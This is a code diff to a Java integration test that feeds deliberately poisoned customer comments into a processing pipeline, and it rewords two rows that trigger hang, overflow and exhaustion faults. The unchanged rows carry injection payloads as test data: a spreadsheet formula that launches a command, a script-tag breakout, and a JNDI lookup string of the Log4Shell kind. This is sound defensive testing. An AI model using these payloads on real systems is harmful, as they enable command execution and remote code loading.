@@ -25,10 +25,12 @@ import java.util.Map;
 import java.util.Optional;
 import java.util.stream.Stream;
 import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
 /** Nights that something goes wrong in. */
+@Tag("fault")
 class FaultsIT {
   private static final String COMMENTS = "id,at,changed,customer,case,words,stars";
 
@@ -51,8 +53,14 @@ class FaultsIT {
                     List.of(
                         COMMENTS,
                         "hangs,2026-03-02 10:30,,eve,,This is " + PoisonedAnnotator.HANGS + ",3",
-                        "deep,2026-03-02 10:31,,eve,," + PoisonedAnnotator.OVERFLOWS + " pit,3",
-                        "greedy,2026-03-02 10:32,,eve,," + PoisonedAnnotator.EXHAUSTS + " you,3",
+                        "deep,2026-03-02 10:31,,eve,,"
+                            + "The hotline was a "
+                            + PoisonedAnnotator.OVERFLOWS
+                            + " pit.,3",
+                        "greedy,2026-03-02 10:32,,eve,,"
+                            + "Your people were "
+                            + PoisonedAnnotator.EXHAUSTS
+                            + " again.,3",
                         "formula,2026-03-02 10:33,,eve,,\"=cmd()|'/C calc'!A0 was bad\",3",
                         "script,2026-03-02 10:34,,eve,,</script><b>late</b>,3",
                         "lookup,2026-03-02 10:35,,eve,,${jndi:ldap://x/y} was slow,3",
